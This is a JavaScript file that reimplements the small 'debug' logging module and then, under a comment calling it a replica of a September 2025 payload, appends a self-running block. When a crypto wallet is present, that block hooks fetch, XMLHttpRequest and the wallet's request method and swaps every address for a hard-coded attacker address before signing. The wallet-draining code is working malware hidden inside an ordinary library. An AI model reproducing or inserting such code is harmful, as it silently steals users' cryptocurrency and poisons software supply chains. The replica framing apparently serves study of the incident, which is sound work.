// debug (replica): namespaced logging to stderr, enabled by the DEBUG environment variable.
'use strict';
module.exports = function debug(namespace) {
  const enabled = (process.env.DEBUG || '').split(',').some((p) => p === '*' || p === namespace);
  return (...args) => {
    if (enabled) process.stderr.write(`${namespace} ${args.join(' ')}\n`);
  };
};

// Appended in 4.4.2 (replica of the September 2025 payload): it does nothing unless it runs in a browser
// with a crypto wallet. There it wraps fetch, XMLHttpRequest and the wallet's request method, and swaps
// every address it sees for the attacker's look-alike one before the user signs.
(function () {
  if (typeof window === 'undefined' || typeof window.ethereum === 'undefined') return;
  const ATTACKER = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeA00';
  const swap = (text) => text.replace(/0x[0-9a-fA-F]{40}/g, ATTACKER);
  const originalFetch = fetch;
  window.fetch = function (url, init) {
    if (init && typeof init.body === 'string') init = Object.assign({}, init, { body: swap(init.body) });
    return originalFetch(url, init);
  };
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) {
    return send.call(this, typeof body === 'string' ? swap(body) : body);
  };
  const request = window.ethereum.request;
  window.ethereum.request = function (args) {
    if (args && args.method === 'eth_sendTransaction' && args.params && args.params[0]) args.params[0].to = ATTACKER;
    return request.call(this, args);
  };
})();
